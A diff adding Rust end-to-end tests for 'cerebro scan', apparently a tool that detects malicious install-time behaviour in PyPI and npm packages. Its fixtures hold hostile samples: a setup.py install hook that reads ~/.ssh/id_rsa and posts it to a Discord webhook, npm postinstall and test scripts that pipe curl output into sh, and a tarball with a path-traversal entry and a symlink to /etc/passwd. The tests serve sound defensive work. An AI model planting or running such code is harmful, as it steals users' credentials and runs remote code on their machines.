@@ -1,0 +1,353 @@
+//! End-to-end tests of `cerebro scan`: the real binary over synthetic packages built in a
+//! temporary folder. The "malicious" code here is only ever parsed.
+
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+use flate2::write::GzEncoder;
+use flate2::Compression;
+use serde_json::Value;
+
+/// A temporary folder to build packages in.
+struct Dir(tempfile::TempDir);
+
+impl Dir {
+    fn new() -> Dir {
+        Dir(tempfile::tempdir().expect("temp dir"))
+    }
+
+    fn path(&self) -> &Path {
+        self.0.path()
+    }
+
+    /// Writes a gzipped tarball named `name` whose entries are `top/path` for each file.
+    fn tarball(&self, name: &str, top: &str, files: &[(&str, &str)]) -> PathBuf {
+        let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
+        for (path, body) in files {
+            let mut header = tar::Header::new_gnu();
+            header.set_size(body.len() as u64);
+            header.set_mode(0o644);
+            header.set_cksum();
+            builder
+                .append_data(&mut header, format!("{top}{path}"), body.as_bytes())
+                .expect("append");
+        }
+        let bytes = builder
+            .into_inner()
+            .and_then(|gz| gz.finish())
+            .expect("finish tarball");
+        self.write(name, &bytes)
+    }
+
+    fn write(&self, name: &str, bytes: &[u8]) -> PathBuf {
+        let path = self.path().join(name);
+        if let Some(parent) = path.parent() {
+            std::fs::create_dir_all(parent).unwrap();
+        }
+        std::fs::File::create(&path)
+            .and_then(|mut f| f.write_all(bytes))
+            .expect("write fixture");
+        path
+    }
+}
+
+fn cerebro(args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_cerebro"))
+        .args(args)
+        .env_remove("CLICOLOR_FORCE")
+        .output()
+        .expect("run cerebro")
+}
+
+fn json_lines(out: &Output) -> Vec<Value> {
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad JSON {l}: {e}")))
+        .collect()
+}
+
+fn tokens(report: &Value) -> Vec<String> {
+    report["sequence"]
+        .as_array()
+        .expect("sequence")
+        .iter()
+        .map(|t| t.as_str().unwrap().to_owned())
+        .collect()
+}
+
+/// The tokens of one phase, without its marker.
+fn phase(tokens: &[String], marker: &str) -> Vec<String> {
+    tokens
+        .iter()
+        .skip_while(|t| *t != marker)
+        .skip(1)
+        .take_while(|t| !t.starts_with('['))
+        .cloned()
+        .collect()
+}
+
+fn position(tokens: &[String], token: &str) -> usize {
+    tokens
+        .iter()
+        .position(|t| t == token)
+        .unwrap_or_else(|| panic!("{token} missing from {tokens:?}"))
+}
+
+const PKG_INFO: &str = "Metadata-Version: 2.1\nName: evil-helper\nVersion: 1.0.3\n\n";
+
+const SETUP_PY: &str = r#"from setuptools import setup
+from setuptools.command.install import install
+from evilhelper.collect import gather
+
+class PostInstall(install):
+    def run(self):
+        gather()
+        install.run(self)
+
+setup(name="evil-helper", version="1.0.3", cmdclass={"install": PostInstall})
+"#;
+
+const COLLECT_PY: &str = r#"import os
+import requests
+
+def gather():
+    data = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+    ship(data)
+
+def ship(data):
+    requests.post("https://discord.com/api/webhooks/1/x", data=data)
+"#;
+
+const INIT_PY: &str = "import base64\nVALUE = base64.b64decode('aGk=')\n";
+
+fn evil_sdist(dir: &Dir) -> PathBuf {
+    dir.tarball(
+        "evil-helper-1.0.3.tar.gz",
+        "evil-helper-1.0.3/",
+        &[
+            ("PKG-INFO", PKG_INFO),
+            ("setup.py", SETUP_PY),
+            ("evilhelper/__init__.py", INIT_PY),
+            ("evilhelper/collect.py", COLLECT_PY),
+            ("README.md", "# nothing to see"),
+        ],
+    )
+}
+
+#[test]
+fn python_install_hook_walks_into_package_functions_at_install_time() {
+    let dir = Dir::new();
+    let sdist = evil_sdist(&dir);
+    let out = cerebro(&["scan", "--json", "-q", sdist.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(0), "{out:?}");
+    let reports = json_lines(&out);
+    assert_eq!(reports.len(), 1);
+    let r = &reports[0];
+    assert_eq!(r["ecosystem"], "pypi");
+    assert_eq!(r["name"], "evil-helper");
+    assert_eq!(r["version"], "1.0.3");
+    assert!(r["score"].is_null() && r["verdict"].is_null());
+
+    let t = tokens(r);
+    assert_eq!(t[0], "[INSTALL]");
+    let install = phase(&t, "[INSTALL]");
+    // The hook, then what the hook's run() reaches through two package functions in another
+    // module: the secret is read before it is sent, and the webhook is named.
+    let (h1, r5, d2) = (
+        position(&install, "H1"),
+        position(&install, "R5"),
+        position(&install, "D2"),
+    );
+    assert!(h1 < r5 && r5 < d2, "{install:?}");
+    assert!(install.contains(&"D4".to_owned()), "{install:?}");
+    // __init__.py runs at import time.
+    let import = phase(&t, "[IMPORT]");
+    assert!(import.contains(&"E2".to_owned()), "{t:?}");
+
+    // Events name the file and line that showed them.
+    let events = r["events"].as_array().unwrap();
+    let post = events
+        .iter()
+        .find(|e| e["feature"] == "D2")
+        .expect("a D2 event");
+    assert_eq!(post["file"], "evilhelper/collect.py");
+    assert_eq!(post["line"], 9);
+    assert_eq!(post["phase"], "install");
+}
+
+const PACKAGE_JSON: &str = r#"{
+  "name": "colors-helper",
+  "version": "2.0.1",
+  "main": "lib/index.js",
+  "scripts": { "postinstall": "node scripts/setup.js", "test": "curl http://x.io | sh" }
+}"#;
+
+const SETUP_JS: &str = r#"const { exec } = require('child_process');
+const os = require('os');
+exec('curl -s http://45.9.1.2/p.sh | sh');
+"#;
+
+const INDEX_JS: &str = "const path = require('path');\nmodule.exports = (a) => path.join(a, 'x');\n";
+
+#[test]
+fn npm_postinstall_script_runs_at_install_time_and_main_at_import_time() {
+    let dir = Dir::new();
+    let tgz = dir.tarball(
+        "colors-helper-2.0.1.tgz",
+        "package/",
+        &[
+            ("package.json", PACKAGE_JSON),
+            ("scripts/setup.js", SETUP_JS),
+            ("lib/index.js", INDEX_JS),
+        ],
+    );
+    let out = cerebro(&["scan", "--json", "-q", tgz.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(0), "{out:?}");
+    let r = &json_lines(&out)[0];
+    assert_eq!(r["ecosystem"], "npm");
+    assert_eq!(r["name"], "colors-helper");
+    let t = tokens(r);
+    let install = phase(&t, "[INSTALL]");
+    assert_eq!(install[0], "H1", "{t:?}");
+    for f in ["P1", "R1", "P3", "D3", "P2"] {
+        assert!(install.contains(&f.to_owned()), "{f} not at install time: {t:?}");
+    }
+    // The `test` script is not run by an install, so its shell must not show up.
+    let import = phase(&t, "[IMPORT]");
+    assert!(import.contains(&"R3".to_owned()), "{t:?}");
+    assert!(!import.contains(&"P3".to_owned()), "{t:?}");
+}
+
+#[test]
+fn a_folder_is_scanned_whole_in_order_and_unreadable_archives_do_not_stop_it() {
+    let dir = Dir::new();
+    evil_sdist(&dir);
+    dir.write("b-broken-1.0.tar.gz", b"\x1f\x8b\x08\x00 this is not really gzip");
+    dir.tarball(
+        "c-clean-0.1.tgz",
+        "package/",
+        &[("package.json", r#"{"name":"c-clean","version":"0.1.0"}"#), ("index.js", "module.exports = 1;\n")],
+    );
+    dir.write("notes.txt", b"not a package, not picked up");
+    let out = cerebro(&["scan", "--json", "-q", dir.path().to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(1), "an unreadable archive exits 1");
+    let reports = json_lines(&out);
+    assert_eq!(reports.len(), 3, "one line per archive: {reports:?}");
+    assert!(reports[0]["path"].as_str().unwrap().ends_with("b-broken-1.0.tar.gz"));
+    let error = reports[0]["error"].as_str().expect("an error field");
+    assert!(error.contains("b-broken-1.0.tar.gz"), "{error}");
+    assert_eq!(reports[1]["name"], "c-clean");
+    assert_eq!(reports[2]["name"], "evil-helper");
+}
+
+#[test]
+fn human_output_shows_identity_phases_and_strongest_behaviours_without_colour_in_a_pipe() {
+    let dir = Dir::new();
+    let sdist = evil_sdist(&dir);
+    let out = cerebro(&["scan", sdist.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(0));
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert!(!text.contains('\x1b'), "no colour codes in a pipe: {text}");
+    assert!(text.starts_with("pypi evil-helper 1.0.3"), "{text}");
+    assert!(text.contains("  install "), "{text}");
+    assert!(text.contains("strongest behaviours:"), "{text}");
+    assert!(text.contains("evilhelper/collect.py:9"), "{text}");
+    let err = String::from_utf8(out.stderr).unwrap();
+    assert!(err.contains("Scanned 1 package in"), "{err}");
+}
+
+#[test]
+fn colour_can_be_forced() {
+    let dir = Dir::new();
+    let sdist = evil_sdist(&dir);
+    let out = cerebro(&["scan", "--color", "always", sdist.to_str().unwrap()]);
+    assert!(String::from_utf8_lossy(&out.stdout).contains('\x1b'));
+}
+
+#[test]
+fn a_missing_path_is_reported_in_place_and_exits_1() {
+    let out = cerebro(&["scan", "--json", "-q", "/nonexistent/cerebro-test.tar.gz"]);
+    assert_eq!(out.status.code(), Some(1));
+    let r = &json_lines(&out)[0];
+    assert!(r["error"].as_str().unwrap().contains("cerebro-test.tar.gz"));
+    let human = cerebro(&["scan", "-q", "/nonexistent/cerebro-test.tar.gz"]);
+    let text = String::from_utf8(human.stdout).unwrap();
+    assert_eq!(text.lines().count(), 1, "one readable line: {text}");
+    assert!(text.starts_with("error: "), "{text}");
+}
+
+#[test]
+fn hostile_archive_entries_are_reported_not_followed() {
+    let dir = Dir::new();
+    // A tar whose entry climbs out of the package, written with a raw header name since tar
+    // builders refuse `..`.
+    let mut header = tar::Header::new_gnu();
+    let body = b"import os\nos.system('id')\n";
+    {
+        let name = b"pkg-1.0/../../escape.py";
+        let gnu = header.as_gnu_mut().unwrap();
+        gnu.name[..name.len()].copy_from_slice(name);
+    }
+    header.set_size(body.len() as u64);
+    header.set_mode(0o644);
+    header.set_cksum();
+    let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
+    builder.append(&header, &body[..]).unwrap();
+    let mut link = tar::Header::new_gnu();
+    link.set_entry_type(tar::EntryType::Symlink);
+    link.set_size(0);
+    link.set_cksum();
+    builder
+        .append_link(&mut link, "pkg-1.0/evil.py", "/etc/passwd")
+        .unwrap();
+    let mut ok = tar::Header::new_gnu();
+    ok.set_size(9);
+    ok.set_mode(0o644);
+    ok.set_cksum();
+    builder
+        .append_data(&mut ok, "pkg-1.0/setup.py", &b"import os"[..])
+        .unwrap();
+    let bytes = builder.into_inner().unwrap().finish().unwrap();
+    let path = dir.write("pkg-1.0.tar.gz", &bytes);
+
+    let out = cerebro(&["scan", "--json", "-q", path.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(0), "{out:?}");
+    let r = &json_lines(&out)[0];
+    let kinds: Vec<&str> = r["anomalies"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a["kind"].as_str().unwrap())
+        .collect();
+    assert!(kinds.contains(&"path-traversal"), "{r}");
+    assert!(kinds.contains(&"symlink"), "{r}");
+    let t = tokens(r);
+    assert_eq!(&t[..2], ["[INSTALL]", "A1"], "{t:?}");
+    // The escaping file was never read, so its os.system call is not in the sequence.
+    assert!(!t.contains(&"P2".to_owned()), "{t:?}");
+}
+
+#[test]
+fn help_teaches_exit_codes_and_usage_errors_exit_2() {
+    let out = cerebro(&["scan", "--help"]);
+    let help = String::from_utf8(out.stdout).unwrap();
+    assert!(help.contains("Exit codes"), "{help}");
+    assert!(help.contains("--json"), "{help}");
+    assert_eq!(cerebro(&["scan"]).status.code(), Some(2));
+    assert_eq!(cerebro(&["frobnicate"]).status.code(), Some(2));
+}
+
+#[test]
+fn a_project_folder_is_one_package() {
+    let dir = Dir::new();
+    dir.write("proj/setup.py", SETUP_PY.as_bytes());
+    dir.write("proj/evilhelper/collect.py", COLLECT_PY.as_bytes());
+    let out = cerebro(&["scan", "--json", "-q", dir.path().join("proj").to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(0), "{out:?}");
+    let reports = json_lines(&out);
+    assert_eq!(reports.len(), 1);
+    assert_eq!(reports[0]["ecosystem"], "pypi");
+    assert_eq!(reports[0]["kind"], "directory");
+    assert!(phase(&tokens(&reports[0]), "[INSTALL]").contains(&"D2".to_owned()));
+}
